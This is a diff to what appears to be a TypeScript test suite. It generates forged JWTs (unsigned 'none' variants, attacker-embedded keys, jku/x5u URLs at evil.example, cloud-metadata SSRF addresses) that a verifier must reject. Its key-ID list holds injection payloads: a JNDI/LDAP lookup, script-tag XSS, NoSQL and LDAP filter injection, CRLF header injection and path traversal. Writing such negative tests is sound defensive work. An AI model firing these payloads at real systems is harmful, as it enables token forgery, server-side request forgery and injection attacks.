@@ -1,33 +1,15 @@
-import { KEYS, base64url, publicJwk, type KeyName } from './forge.js';
+import { Forge, KEYS, base64url, publicJwk, type KeyName } from './forge.js';
 import { each, refused, type Recipe } from './recipe.js';
 
 /** Forged algorithms and forged keys. */
 
 const ATTACKER = KEYS.attacker.privateKey;
+/** For the length of tables that depend on the forge. */
+const ANYBODY = new Forge('http://127.0.0.1', 'audience', 0);
 
-const secrets = () => {
-  const key = KEYS.k1.publicKey;
-  return [
-    key.export({ type: 'spki', format: 'pem' }),
-    key.export({ type: 'spki', format: 'pem' }).toString().trim(),
-    key.export({ type: 'pkcs1', format: 'pem' }),
-    key.export({ type: 'spki', format: 'der' }),
-    JSON.stringify(publicJwk('k1')),
-    String(key.export({ format: 'jwk' }).n),
-    '',
-    'secret',
-  ];
-};
-
-const hmac = each(
-  ['HS256', 'HS384', 'HS512'].flatMap((alg) =>
-    secrets().flatMap((_, index) => ['k1', undefined, 'ec1'].map((kid) => ({ alg, index, kid }))),
-  ),
-  ({ alg, index, kid }, forge) => forge.hmacToken(alg, secrets()[index] ?? '', { kid }),
-);
-
+const NONE = ['none', 'None', 'NONE', 'nOnE', 'NoNe', 'none ', ' none', 'none\0', 'n\u043Ene'];
 const unsigned = each(
-  ['none', 'None', 'NONE', 'nOnE', 'none ', '', 'null'].flatMap((alg) =>
+  [...NONE, '\uFF4E\uFF4F\uFF4E\uFF45', 'none,RS256', '', 'null', 'plain'].flatMap((alg) =>
     ['', 'AA', 'as RS256'].flatMap((signature) => [
       { alg, signature, kid: 'k1' },
       { alg, signature, kid: undefined },
@@ -58,6 +40,23 @@ const OTHER_ALGORITHMS = [
   ' RS256',
   'RS256\0',
   'RSA-SHA256',
+  'RS256,HS256',
+  'RS256 none',
+  'RS256\n',
+  'R\u0455256',
+  '\uFF32\uFF33256',
+  'RS\u0662\u0665\u0666',
+  'SHA256withRSA',
+  'sha256',
+  'md5',
+  'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256',
+  '1.2.840.113549.1.1.11',
+  'PBES2-HS256+A128KW',
+  'ECDH-ES',
+  'ML-DSA-44',
+  'valueOf',
+  'hasOwnProperty',
+  'x'.repeat(5000),
   'SHA256',
   'dir',
   'A128KW',
@@ -101,26 +100,102 @@ const KEY_IDS: readonly unknown[] = [
   'null',
   'true',
   'https://evil.example/keys',
+  'k'.repeat(512),
   'k'.repeat(513),
+  'k'.repeat(8000),
+  'k1\r\nX-Injected: 1',
+  '\u001B[2Jk1',
+  'k1%00',
+  'k1?x=1',
+  'k1#x',
+  'k1;x',
+  'k1/../attacker',
+  '.',
+  '..',
+  '/',
+  '%2e%2e%2f%2e%2e%2fdev%2fnull',
+  '\uFF4B1',
+  'k\u0661',
+  'k1\u200B',
+  '\uD800',
+  '*)(kid=*',
+  '${jndi:ldap://evil.example/x}',
+  '%s%s%n',
+  '<script>alert(1)</script>',
+  '{"$gt":""}',
+  'valueOf',
+  'length',
+  '__defineGetter__',
+  '-1',
+  'NaN',
+  '[object Object]',
+  'localhost:8080/keys',
   '\u{1F511}',
   '\u202Ek1',
 ];
-const BAD_KEY_IDS: readonly unknown[] = ['', null, 0, 1, true, [], ['k1'], {}, { kid: 'k1' }];
+const BAD_KEY_IDS: readonly unknown[] = [
+  '',
+  null,
+  0,
+  1,
+  1.5,
+  true,
+  false,
+  [],
+  ['k1'],
+  [['k1']],
+  {},
+  { kid: 'k1' },
+  { toString: 'k1' },
+  { $ne: null },
+];
 
 const attackerJwk = publicJwk('attacker');
 const EMBEDDED: Readonly<Record<string, Readonly<Record<string, unknown>>>> = {
   jwk: { jwk: attackerJwk },
   'jwk under the kid in use': { jwk: { ...attackerJwk, kid: 'k1' } },
-  jku: { jku: 'https://evil.example/keys' },
-  x5u: { x5u: 'https://evil.example/cert.pem' },
+  'a private jwk': { jwk: KEYS.attacker.privateKey.export({ format: 'jwk' }) },
+  'jwk in a list': { jwk: [attackerJwk] },
+  'jwk as text': { jwk: JSON.stringify(attackerJwk) },
+  'a set of keys': { jwks: { keys: [attackerJwk] }, keys: [attackerJwk] },
+  'jwk that is no key': { jwk: null },
+  'x5c that is no list': { x5c: KEYS.attacker.publicKey.export({ type: 'spki', format: 'pem' }) },
+  'x5c that is empty': { x5c: [] },
   x5c: { x5c: [base64url(KEYS.attacker.publicKey.export({ type: 'spki', format: 'der' }))] },
   x5t: { x5t: 'AAAA', 'x5t#S256': 'AAAA' },
   key: { key: KEYS.attacker.publicKey.export({ type: 'spki', format: 'pem' }) },
 };
 
+/** Where keys are said to be. Whoever looks there is found out: the server counts what it is asked. */
+const addresses = ({ issuer }: Forge): readonly unknown[] => {
+  const { origin } = new URL(issuer);
+  return [
+    'https://evil.example/keys',
+    '//evil.example/keys',
+    `${origin}/attacker`,
+    `${issuer}/v1/keys/../../attacker`,
+    `${issuer}/redirect?to=https://evil.example/keys`,
+    origin.replace('//', '//evil.example@'),
+    `${origin}.evil.example/keys`,
+    `${issuer}/v1/keys#attacker`,
+    'file:///dev/null',
+    `data:application/json,${encodeURIComponent(JSON.stringify({ keys: [attackerJwk] }))}`,
+    'http://169.254.169.254/latest/meta-data',
+    '',
+    null,
+    [`${origin}/attacker`],
+    { url: `${origin}/attacker` },
+  ];
+};
+
+const named = ['jku', 'x5u'].flatMap((member) =>
+  ['k1', 'attacker'].flatMap((kid) =>
+    [...addresses(ANYBODY).keys()].map((index) => ({ member, kid, index })),
+  ),
+);
+
 export const SIGNATURES: readonly Recipe[] = [
   ...refused('unsigned', unsigned),
-  ...refused('a public key as secret', hmac),
   ...refused(
     'another algorithm in the header',
     each(OTHER_ALGORITHMS, (alg) => ({ header: { alg } })),
@@ -171,5 +246,12 @@ export const SIGNATURES: readonly Recipe[] = [
       ),
       ({ name, kid }) => ({ header: { ...EMBEDDED[name], kid }, key: ATTACKER }),
     ),
+  ),
+  ...refused(
+    'says where its key is',
+    each(named, ({ member, kid, index }, forge) => ({
+      header: { kid, [member]: addresses(forge)[index] },
+      key: ATTACKER,
+    })),
   ),
 ];
